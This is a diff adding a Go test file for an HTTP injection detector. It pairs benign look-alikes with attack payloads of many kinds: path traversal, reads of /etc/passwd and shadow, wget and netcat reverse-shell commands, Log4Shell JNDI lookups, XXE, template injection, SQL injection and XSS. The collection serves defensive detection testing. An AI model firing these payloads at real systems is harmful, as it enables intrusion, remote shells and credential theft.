@@ -1,0 +1,241 @@
+package inject
+
+import (
+	"encoding/base64"
+	"net/url"
+	"testing"
+
+	"github.com/valyala/fasthttp"
+)
+
+// checkCases are, per kind, true positives (most from GoTestWAF's test
+// cases, github.com/wallarm/gotestwaf testcases/, and CRS's regression
+// tests' payloads) and benign look-alikes that must pass. Each value is
+// inspected as a query value; benign ones also in every location by
+// TestBenignCorpus when they are in testdata/benign.txt.
+var checkCases = []struct {
+	kind    Kind
+	attacks []string
+	benign  []string
+	xml     bool // inspect as XML bodies, not query values
+}{
+	{KindPathTraversal, []string{
+		"/static/img/../../etc/passwd", `..\..\windows\win.ini`, "\xc0\xae\xc0\xae\xc0\xafetc\xc0\xafpasswd",
+		"..;/..;/WEB-INF/web.xml", "file=../../../../x", "%2e%2e%2f%2e%2e%2fboot.ini",
+	}, []string{
+		"../README.md", "see ../docs for more", "report.v2.txt", "version 1.2..3", "wait... what/why",
+		"https://example.com/a/../b", "...", `C:\Program Files\App`, "../img/logo.png",
+	}, false},
+	{KindLFI, []string{
+		"/etc/passwd", "file:///etc/./passwd", "; cat /et'c/pa'ss'wd", `\\::1\c$\users\default\ntuser.dat`,
+		"php://filter/convert.base64-encode/resource=index.php", "expect://id", "phar://uploads/a.jpg/x",
+		`C:\Windows\win.ini`, "/proc/self/environ", ".htpasswd", "cmd=cat /etc/passwd", "....//....//etc/shadow",
+		"/var/www/.git/config",
+	}, []string{
+		"/etc/passwords-are-hard", "The /etc directory", "etcetera/passwd", "my passwd is secret",
+		"https://example.com/shadow/group", "proc/selfie", "id_rsa.pub", "data:image/png;base64,iVBORw0KGgo=",
+		"zip code 12345", "etc. and so on", "/api/v1/process/self-test",
+	}, false},
+	{KindCmdInjection, []string{
+		";wget http://some_host/sh311.sh", "|getent+hosts+somehost.example.net.&", ";getent$IFS$9hosts",
+		"| set /a 3482*7301", "ax--exec=`id`--remote=origin", "cmd=127.0.0.1 && ls /etc",
+		"() { :; }; echo ; /bin/bash -c 'ls'", "$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
+		"`curl -L http://x.example`", "127.0.0.1; whoami", "a | nc -e /bin/sh 10.0.0.1 4444", "x; sleep$IFS5",
+		"echo $((3482*7301))", " ls /etc",
+	}, []string{
+		"cats && dogs", "Tom & Jerry", "rock & roll", "echo in the mirror", "curl and divergence",
+		"bash away in the gym", "ls 300 lexus", "nc 8000 controller", "zsh is the best!", "exec noun",
+		"salt; pepper", "DEAR FINN,--I think it would do; copy should reach us second post",
+		"The Senora found herself a heroine; more than that", "size=XL; color=red", "sort by date | filter",
+		"Q&A: set the table", "We ship; cat food included", "1/2 cup; time 5 min", "price $(5)",
+		"curl/8.5.0", "python-requests/2.31.0", "The parameter 5 is&|.", "url=/?usr=subject;-",
+	}, false},
+	{KindCodeInjection, []string{
+		"<?php system($_GET['c']); ?>", "$_GET['x']", "system('id')", "eval(base64_decode('ZWNobyAx'))",
+		"__import__('os').system('id')", "!!python/object/new:exec [import socket]",
+		"java.lang.Runtime.getRuntime().exec('id')", "new ProcessBuilder(\"id\").start()",
+		"require('child_process').exec('id')", "process.mainModule.require('fs')", `Response.Write("x")`,
+		`CreateObject("WScript.Shell")`, `eval(atob("YWxlcnQoKQ=="))`, ";var date = new Date(); do{curDate = new Date();}while(curDate-date",
+		"0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)",
+		`Ev al ("Ex"&"e"&"cute(""Server.ScriptTimeout=3600:On Error Resume Next")`,
+	}, []string{
+		`console.log("hello");`, "for (i = 0; i < n; i++) { sum += a[i]; }", "The operating system(s) you use",
+		"Please review the __init__ method", "print('hello')", "Run the system check", "see java.util.List",
+		"process.env.NODE_ENV", "let x = 5", "on error, resume the upload", "require('express')",
+	}, false},
+	{KindTemplate, []string{
+		"{{1337*1338}}", "${7*7}", "aaaa\\u0027%2b#{16*8787}%2b\\u0027bbb",
+		`<#assign ex = "freemarker.template.utility.Execute"?new()>${ ex("id")}`, "{{config.items()}}",
+		"{{''.__class__.__mro__[1].__subclasses__()}}", "<%= 7*7 %>", "{% import os %}", "#set($x = 1)",
+		"${@print(md5(31337))}", "*{T(java.lang.Runtime).getRuntime()}",
+	}, []string{
+		"{{name}}", "Hello {{ user.first_name }}!", "${HOME}", "{% if user %}Hi{% endif %}",
+		"Total: {{ price | currency }}", "#{id}", "Price ${price} for {{qty}} items", "{{7}}", "{{ a-b }}",
+		"3*4 = 12", "${ version }-2",
+	}, false},
+	{KindJNDI, []string{
+		"${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x/}", "${${::-j}${::-n}di:rmi://x}",
+		"${env:AWS_SECRET_ACCESS_KEY}",
+	}, []string{
+		"${user.name}", "Cost: ${amount}", "${1:default}",
+	}, false},
+	{KindSSI, []string{
+		`<!--#exec cmd="ls" -->`, `<!--#include virtual="/index.html"-->`, `<!--#echo var="DATE_LOCAL" -->`,
+	}, []string{
+		"<!-- comment -->", "<!--#--> decorative",
+	}, false},
+	{KindXXE, []string{
+		`<!DOCTYPE x SYSTEM "//x/x" > <x>a</x>`, `<!DOCTYPE x [ <!ENTITY % y SYSTEM "//y/y" > %y; ]><x>a</x>`,
+		`<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>`,
+		`<?xml version="1.0" encoding="UTF-7"?><x/>`, `<!ENTITY % y SYSTEM "//y/y">`,
+		`<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts"/></x>`,
+		`<!DOCTYPE x PUBLIC "any_text" "http://evil.example/evil.dtd"><x/>`,
+	}, []string{
+		"<!DOCTYPE html>", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html></html>`,
+		`<?xml version="1.0" encoding="UTF-8"?><a>b</a>`,
+		`<Invoice xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 UBL-Invoice-2.1.xsd"/>`,
+		`<!-- generated --><a href="https://example.com/?a=1&amp;b=2">x &lt; y</a>`,
+	}, true},
+	{KindLDAP, []string{
+		"(&(uid=admin)(!(&(1=0)(userPassword=q))))", "*(|(objectclass=*))", "userPassword:2.5.13.18:=123",
+		"admin*)(uid=*))(|(uid=*", "cn:dn:=admin",
+	}, []string{
+		"(see (a) and (b))", "f(x) = (a|b)", ":-) (|) smiley", "x := 5", "Version 2.5.13:= ok",
+	}, false},
+	{KindNoSQL, []string{
+		"true, $where: '99 == 88'", "', $or: [ {}, { 'order':'order", "db.injection.insert({success:1});",
+		`{"$ne": null}`, "db.getCollection('users')",
+	}, []string{
+		"Price: $ne", "Save $5 or more", "$or else", "The db.example.com host", "costs $10: ok",
+	}, false},
+	{KindCRLF, []string{
+		"\r\nSet-Cookie:crlf=injection", "x\nLocation: http://evil.example", "\xe5\x98\x8dSet-cookie:crlf=injection",
+		"x\r\n\r\nHTTP/1.1 200 OK",
+	}, []string{
+		"line one\nline two", "Dear Sir,\nNote: the parcel", "Address:\r\nFlat 2\r\nLondon", "\xe5\x98\x8d hello",
+	}, false},
+	{KindMail, []string{
+		"\r\nV100 CAPABILITY\r\nV101 FETCH 4791", "\r\nQUIT\r\n", "\nRCPT TO: test@evil.example\n",
+		"x\r\nMAIL FROM:<a@b.example>", "\nHELO evil.example",
+	}, []string{
+		"Hi,\nData is attached.\nThanks", "Line1\nQUIT smoking tips", "Dear team,\n\nDATA SCIENCE meetup",
+		"a\nI LIST the items", "Notes:\nLOGIN issues on mobile",
+	}, false},
+	{KindPrototypePollution, []string{
+		"__proto__[v-if]=_c.constructor('alert(1)')()", "constructor.prototype.isAdmin=true",
+		`x["constructor"]["prototype"]["y"]=1`, "this.constructor.constructor('return process')()",
+	}, []string{
+		"the constructor of the prototype", "constructor", "Object.prototype.toString",
+	}, false},
+	{KindScanner, []string{
+		"x.burpcollaborator.net", "http://abc.oast.me/x", "root@w63.interact.sh", "a.oastify.com",
+	}, []string{
+		"xss.html", "oast", "check interact.shop", "dnslog.com", "burpcollaborator",
+	}, false},
+	{KindGraphQLIntrospection, []string{
+		"query{__schema{types{name}}}", `{__type(name:"User"){fields{name}}}`,
+		"IntrospectionQuery{__schema {queryType { name }}",
+	}, []string{
+		"query { user(id: 1) { __typename name } }", "__schema", "my__schema{",
+	}, false},
+	{KindXSS, []string{
+		"javascript:alert(1)", "javascript:setInterval('ale'+'rt(document.domain)')", "confirm.call(null,1)",
+		"(alert)(1)", "alert?.(document?.cookie)", `document["cookie"]`,
+		"[1].some(confirm)", "-alert(1)//", "prompt.call(null,1)", "alert.apply(null, [1])",
+		"&lt;svg/onload&equals;alert(1)&gt;", `\"autof<x>ocus o<x>nfocus=alert<x>(1)//`,
+		"data:text/html,<script>alert(1)</script>", "String.fromCharCode(88,83,83)", "x=document.cookie",
+		"<!<script>alert(document.domain)</script>", "javascript:%ef%bb%bfalert(XSS)",
+	}, []string{
+		"JavaScript: Basics of JavaScript Language", "Please confirm (by mail)", "set an alert(s) for price drops",
+		"Alert(s) enabled", "javascript: the good parts", "Learn JavaScript: map() and filter()", "document.pdf",
+		"the document domain", "eval results (2024)", "a function(x) returns y", "setTimeout(tick, 100)",
+		"JavaScript:%20Basics%20of%20JavaScript%20Language",
+	}, false},
+	{KindSQLi, []string{
+		"123) AND 12=12 AND JSON_DEPTH('{}') != 2521",
+		"-1134')  OR JSON_EXTRACT('{''aKER'': 9648}', '$.aKER') = 9648*7799 AND ('QlYa' LIKE 'QlYa",
+		"1 OR 1=1", "x' AND 'a'='a",
+	}, []string{
+		"between 1 and 10", "x < y and y > z", "rock and roll", "I would like a number between 1 and 10, please.",
+		"john or@var.es",
+	}, false},
+}
+
+func TestChecks(t *testing.T) {
+	d := mustNew(t, Options{})
+	var sc Scratch
+	for _, tc := range checkCases {
+		t.Run(tc.kind.String(), func(t *testing.T) {
+			inspect := inspectQuery
+			if tc.xml {
+				inspect = inspectXMLBody
+			}
+			for _, a := range tc.attacks {
+				r := inspect(d, &sc, a)
+				if r.Kind != tc.kind {
+					t.Errorf("%q: kind %v (%s); want %v", a, r.Kind, r.Rule, tc.kind)
+				}
+				if r.Rule == "" {
+					t.Errorf("%q: no rule", a)
+				}
+				// Base64-encoded, as GoTestWAF's Base64Flat encoder sends it
+				// (text only: binary does not decode as text).
+				b64 := base64.RawStdEncoding.EncodeToString([]byte(a))
+				if r := inspectQuery(d, &sc, b64); !r.Detected() && mostlyPrintable([]byte(a)) {
+					t.Errorf("%q Base64-encoded (%s): not detected", a, b64)
+				}
+			}
+			for _, b := range tc.benign {
+				if r := inspect(d, &sc, b); r.Detected() {
+					t.Errorf("benign %q: flagged %v (%s %s, %v decoding)", b, r.Kind, r.Rule, r.Fingerprint, r.Decoding)
+				}
+			}
+		})
+	}
+}
+
+func inspectQuery(d *Detector, sc *Scratch, v string) Result {
+	var req fasthttp.Request
+	req.SetRequestURI("/search?q=" + url.QueryEscape(v))
+	return d.Inspect(sc, &req, nil)
+}
+
+func inspectXMLBody(d *Detector, sc *Scratch, v string) Result {
+	var req fasthttp.Request
+	req.Header.SetMethod("POST")
+	req.SetRequestURI("/soap")
+	req.Header.SetContentType("application/xml")
+	req.SetBodyString(v)
+	return d.Inspect(sc, &req, nil)
+}
+
+// TestKindsOff: a kind that Options.Off lists is not reported.
+func TestKindsOff(t *testing.T) {
+	var sc Scratch
+	for _, tc := range checkCases {
+		d := mustNew(t, Options{Off: KindSet(0).With(tc.kind)})
+		inspect := inspectQuery
+		if tc.xml {
+			inspect = inspectXMLBody
+		}
+		for _, a := range tc.attacks {
+			if r := inspect(d, &sc, a); r.Kind == tc.kind {
+				t.Errorf("%v off: %q still reported as %v", tc.kind, a, r.Kind)
+			}
+		}
+	}
+}
+
+func TestParseKind(t *testing.T) {
+	for k := KindSQLi; int(k) < NumKinds; k++ {
+		if got, ok := ParseKind(k.String()); !ok || got != k {
+			t.Errorf("ParseKind(%q) = %v, %v", k, got, ok)
+		}
+	}
+	if _, ok := ParseKind("none"); ok {
+		t.Error(`ParseKind("none") succeeded`)
+	}
+	if len(kindNames) != NumKinds || len(sourceNames) != NumSources || len(decodingNames) != int(DecodingTags)+1 {
+		t.Error("a names table is out of step with its constants")
+	}
+}
